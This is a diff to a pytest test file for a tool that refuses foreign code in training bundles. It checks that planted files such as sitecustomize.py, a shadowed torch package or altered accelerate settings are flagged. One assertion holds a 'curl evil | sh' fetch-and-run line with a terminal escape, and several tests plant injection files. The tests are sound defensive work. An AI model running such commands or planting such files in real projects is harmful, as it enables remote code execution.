@@ -4,9 +4,12 @@ from pathlib import Path
 
 import pytest
 
+from cvbundle.bundle.archive import archive_bundle
 from cvbundle.bundle.build import Compiled
 from cvbundle.bundle.foreign import ForeignCode, foreign_code, require_own_code
-from cvbundle.bundle.launch import read_spec
+from cvbundle.bundle.launch import plan_launch, read_spec
+from cvbundle.problems import UserError
+from tests.bundle.reseal import plant, resealed, sealed
 
 
 def _change(path: Path, content: bytes) -> None:
@@ -37,3 +40,62 @@ def test_what_is_other_about_the_code_is_shown_in_short(compiled: Compiled) -> N
     assert "-set -euo pipefail" in refused.value.excerpt
     # What a terminal would obey is not passed on.
     assert "+curl evil | sh\\x1b[2J" in refused.value.excerpt
+
+
+@pytest.mark.parametrize(
+    "name", ["code/evil.py", "code/sitecustomize.py", "code/torch/__init__.py", "code/venv.py"]
+)
+def test_code_that_this_installation_does_not_have_is_foreign(
+    name: str, compiled: Compiled
+) -> None:
+    plant(compiled.bundle, name)
+    bundle = sealed(compiled.bundle)
+    with pytest.raises(ForeignCode, match=rf"would not write \({name}\)") as refused:
+        plan_launch(bundle)
+    assert "+print('executed')" in refused.value.excerpt
+    assert plan_launch(bundle, trust=True).command
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (b"distributed_type", b"debug: true\ndistributed_type"),
+        (b"distributed_type", b"main_training_function: evil\ndistributed_type"),
+        (b"mixed_precision", b"deepspeed_config: {}\nmixed_precision"),
+        (b"mixed_precision: ", b"mixed_precision:  "),
+    ],
+)
+def test_settings_of_accelerate_that_this_installation_would_not_write_are_foreign(
+    old: bytes, new: bytes, compiled: Compiled
+) -> None:
+    bundle = resealed(compiled.bundle, "accelerate.yaml", old, new)
+    with pytest.raises(ForeignCode, match=r"would not write \(accelerate\.yaml\)"):
+        plan_launch(bundle)
+    assert plan_launch(bundle, trust=True).command
+
+
+@pytest.mark.parametrize(
+    "name", ["local/sitecustomize.py", "local/bin/python", "runs/evil.py", "runs/torch/x.py"]
+)
+def test_what_lies_beside_a_bundle_and_belongs_to_none_needs_trust(
+    name: str, compiled: Compiled
+) -> None:
+    plant(compiled.bundle, name)
+    stray = "/".join(name.split("/")[:2])
+    with pytest.raises(UserError, match=rf"holds what no bundle does \({stray}\): .*--trust"):
+        plan_launch(compiled.bundle)
+    assert plan_launch(compiled.bundle, trust=True).command
+
+
+def test_a_validation_image_that_the_settings_do_not_name_needs_trust(compiled: Compiled) -> None:
+    plant(compiled.bundle, "validation/07.png")
+    bundle = sealed(compiled.bundle)
+    with pytest.raises(UserError, match=r"holds what no bundle does \(validation/07\.png\)"):
+        plan_launch(bundle)
+
+
+def test_what_compiling_running_and_archiving_leave_is_no_stranger(compiled: Compiled) -> None:
+    for name in ("runs/0001/run.json", "local/.paths.json.x.tmp", "local/data/a.mp4"):
+        plant(compiled.bundle, name, b"{}")
+    archive_bundle(compiled.bundle, compiled.bundle.parent / "it.tar.zst", provenance=True)
+    assert plan_launch(compiled.bundle).command
